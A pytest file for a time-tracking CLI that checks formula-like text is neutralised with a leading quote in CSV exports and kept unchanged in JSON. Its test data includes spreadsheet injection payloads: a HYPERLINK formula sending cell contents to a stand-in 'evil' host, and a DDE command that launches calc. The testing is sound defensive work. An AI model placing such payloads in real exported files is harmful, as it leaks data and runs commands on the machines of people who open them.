"""Formula injection in the CLI's ``--csv``: descriptions and names a spreadsheet would read as
a formula are printed with a leading ``'``, ``--json`` prints them exactly as the server sent
them, and the numbers in the CSV stay numbers."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import httpx

from tests.cli.conftest import Terminal, terminal_for
from tests.conftest import LiveServer

FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tleading tab",
    "\rleading carriage return",
]
CLIENT, TAG, TASK, WORKSPACE = FORMULAS[0], FORMULAS[2], FORMULAS[1], FORMULAS[3]
WEEK = ("--since", "2024-12-09", "--until", "2024-12-15")


def safe(text: str) -> str:
    return "'" + text


def rows(terminal: Terminal, *args: str) -> list[dict[str, str]]:
    done = terminal.run(*args, "--csv")
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout)))


def _api(terminal: Terminal, method: str, path: str, body: Any) -> Any:
    url = f"{terminal.server.url}/api/v9/workspaces/{terminal.workspace_id}{path}"
    answer = httpx.request(method, url, json=body, auth=(terminal.user["api_token"], "api_token"))
    assert answer.status_code == 200, answer.text
    return answer.json()


def _typed_everywhere(terminal: Terminal, database: Path) -> int:
    """Formula text as the workspace's name, a client, a tag, a task, each project's name and
    each entry's description; returns the id of the project with the task."""
    _api(terminal, "PUT", "", {"name": WORKSPACE})
    client_id = _api(terminal, "POST", "/clients", {"name": CLIENT})["id"]
    _api(terminal, "POST", "/tags", {"name": TAG})
    first = 0
    for hour, text in enumerate(FORMULAS, start=8):
        body = {"name": f"project {hour}", "client_id": client_id, "billable": True, "rate": 60}
        project_id = _api(terminal, "POST", "/projects", body)["id"]
        first = first or project_id
        # The server trims names; a name made elsewhere (Toggl itself, an import) need not be.
        with sqlite3.connect(database) as db:
            db.execute("UPDATE projects SET name = ? WHERE id = ?", (text, project_id))
        entry = {
            "created_with": "trackgate-tests",
            "workspace_id": terminal.workspace_id,
            "start": f"2024-12-10T{hour:02d}:00:00Z",
            "duration": 1800,
            "description": text,
            "project_id": project_id,
            "tags": [TAG],
            "billable": True,
        }
        _api(terminal, "POST", "/time_entries", entry)
    _api(terminal, "POST", f"/projects/{first}/tasks", {"name": TASK})
    return first


def test_every_csv_listing_neutralises_formulas_and_json_keeps_them(
    server: LiveServer, tmp_path: Path
) -> None:
    terminal = terminal_for(server, "direct", tmp_path / "home")
    with_task = _typed_everywhere(terminal, server.data_dir / "trackgate.db")
    expected = sorted(safe(t) for t in FORMULAS)

    entries = rows(terminal, "ls", *WEEK)
    assert sorted(r["description"] for r in entries) == expected
    assert {r["tags"] for r in entries} == {safe(TAG)}
    assert {r["duration"] for r in entries} == {"1800"}
    assert sorted(e["description"] for e in terminal.json("ls", *WEEK)) == sorted(FORMULAS)

    assert sorted(r["name"] for r in rows(terminal, "projects", "ls")) == expected
    assert sorted(p["name"] for p in terminal.json("projects", "ls")) == sorted(FORMULAS)
    assert [r["name"] for r in rows(terminal, "clients", "ls")] == [safe(CLIENT)]
    assert [c["name"] for c in terminal.json("clients", "ls")] == [CLIENT]
    assert [r["name"] for r in rows(terminal, "tags", "ls")] == [safe(TAG)]
    assert [t["name"] for t in terminal.json("tags", "ls")] == [TAG]
    tasks = rows(terminal, "tasks", "ls", "-p", str(with_task))
    assert [r["name"] for r in tasks] == [safe(TASK)]
    assert [t["name"] for t in terminal.json("tasks", "ls", "-p", str(with_task))] == [TASK]
    assert [r["name"] for r in rows(terminal, "workspaces", "ls")] == [safe(WORKSPACE)]
    assert [w["name"] for w in terminal.json("workspaces", "ls")] == [WORKSPACE]

    for by, wanted in (("project", FORMULAS), ("description", FORMULAS), ("tag", [TAG])):
        lines = rows(terminal, "report", "week", "--date", "2024-12-10", "--by", by)
        assert sorted(r[by] for r in lines) == sorted(safe(t) for t in wanted)
        assert all(int(r["seconds"]) >= 1800 for r in lines)
        assert all(r["amount"].endswith("USD") and r["amount"][0].isdigit() for r in lines)
        report = terminal.json("report", "week", "--date", "2024-12-10", "--by", by)
        assert sorted(g["title"] for g in report["groups"]) == sorted(wanted)


def test_numbers_stay_numbers_even_when_negative(server: LiveServer, tmp_path: Path) -> None:
    terminal = terminal_for(server, "direct", tmp_path / "home")
    started = terminal.run("start", "--json", "--", "-running")
    assert started.returncode == 0, started.stderr
    running = json.loads(started.stdout)
    assert running["duration"] < 0
    [row] = rows(terminal, "ls")
    assert row["description"] == safe("-running")
    assert int(row["duration"]) < 0  # a negative number, no quote
